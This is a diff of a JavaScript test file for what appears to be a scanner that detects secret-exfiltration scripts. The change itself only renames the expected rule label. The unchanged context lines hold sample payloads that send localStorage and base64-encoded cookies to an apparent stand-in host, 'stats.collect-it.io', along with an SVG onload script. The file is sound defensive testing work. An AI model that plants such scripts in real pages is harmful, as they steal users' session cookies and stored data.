@@ -23,12 +23,12 @@ test.each([
   ["a.html", `<script>navigator.sendBeacon("https://stats.collect-it.io/p", JSON.stringify(localStorage))</script>`, 1],
   ["a.html", `<script>location.href = "https://stats.collect-it.io/p?" + btoa(document.cookie)</script>`, 1],
 ])("follows the scripts of %s: %s", async (path, text, line) => {
-  expect(await found(path, text)).toStrictEqual([`block secret_exfiltration:${line}`]);
+  expect(await found(path, text)).toStrictEqual([`block secret-exfiltration:${line}`]);
 });
 
 test("follows the scripts of a picture", async () => {
   const text = `<svg xmlns="http://www.w3.org/2000/svg" onload="go()">\n<script><![CDATA[\nfunction go() { ${THIEF} }\n]]></script></svg>`;
-  expect(await found("a.svg", text)).toContain("block secret_exfiltration:3");
+  expect(await found("a.svg", text)).toContain("block secret-exfiltration:3");
 });
 
 test.each([
